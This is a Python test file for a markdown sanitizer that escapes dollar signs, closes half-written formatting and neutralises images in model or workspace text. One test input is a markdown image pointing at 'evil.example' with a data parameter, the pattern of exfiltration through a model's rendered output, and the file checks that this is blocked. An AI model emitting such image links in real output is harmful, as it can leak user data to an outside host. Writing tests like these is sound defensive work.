"""Text of models and workspaces cannot fetch images, turn into formulas, or dress up."""

from __future__ import annotations

import itertools

import pytest

from ui.markdown import half_written, plain, safe_markdown


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("It costs $3.10, not $4.", r"It costs \$3.10, not \$4."),
        (r"already \$5", r"already \$5"),
        ("run `echo $HOME` now", "run `echo $HOME` now"),
        ("```sh\necho $HOME\n```\nfor $5", "```sh\necho $HOME\n```\nfor \\$5"),
        ("~~~\n$x\n~~~", "~~~\n$x\n~~~"),
        ("1. do\n   ```sql\n   select '$1'\n   ```", "1. do\n   ```sql\n   select '$1'\n   ```"),
        ("![x](http://evil.example/?d=1)", r"!\[x](http://evil.example/?d=1)"),
        ("`vec![1]`", "`vec! [1]`"),
        ("```\n![x](y)\n```", "```\n! [x](y)\n```"),
        ("```mermaid\ngraph TD\n```", "```text\ngraph TD\n```"),
        ("[a link](https://example.com)", "[a link](https://example.com)"),
        ("an open ``` in a line", "an open ``` in a line"),
    ],
)
def test_safe(text: str, safe: str) -> None:
    assert safe_markdown(text) == safe


def test_no_mixture_of_marks_lets_an_image_through() -> None:
    """Whatever is taken for code by mistake: the two characters that begin an image never stand together."""
    pieces = ["!", "[x](http://e)", "`", "```", "\n", "\\", "![x](http://e)", "    ", "~~~", "<div>"]
    for length in (1, 2, 3, 4):
        for parts in itertools.product(pieces, repeat=length):
            assert "![" not in safe_markdown("".join(parts)), parts


@pytest.mark.parametrize(
    ("text", "closed"),
    [
        ("half **bold", "half **bold**"),
        ("half `code", "half `code`"),
        ("done **bold** text", "done **bold** text"),
        ("first **x\n\nsecond", "first **x\n\nsecond"),
        ("```sql\nselect **", "```sql\nselect **"),
    ],
)
def test_half_written(text: str, closed: str) -> None:
    assert half_written(text) == closed


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](http://e)", r"\!\[x\]\(http\://e\)"),
        (":red[boo] $5", r"\:red\[boo\] \$5"),
        ("a_b*c\n d", r"a\_b\*c d"),
    ],
)
def test_labels_show_every_character(text: str, shown: str) -> None:
    assert plain(text) == shown
